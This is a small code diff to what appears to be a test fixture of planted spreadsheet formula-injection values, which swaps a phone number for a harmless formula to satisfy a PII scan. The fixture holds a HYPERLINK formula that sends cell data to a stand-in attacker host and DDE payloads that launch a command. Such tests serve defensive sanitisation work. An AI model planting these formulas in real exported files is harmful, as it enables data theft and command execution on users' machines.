@@ -36,7 +36,7 @@ ROOMS_HEADER = CONTRACT.column("dltv_classrooms").header_th
 PLANTED = {
     "1058010001": '=HYPERLINK("http://evil.example/?d="&A1,"ดูรายละเอียด")',
     "1058010002": "=cmd|' /C calc'!A0",
-    "1058010003": "+66 53 611 000",
+    "1058010003": "+SUM(1,2)",  # (a phone number here would now stop the publish: warehouse/pii_scan.py)
     "1058010004": "@SUM(1+1)*cmd|' /C calc'!A0",
     "1058010005": "\t=1+1",
 }
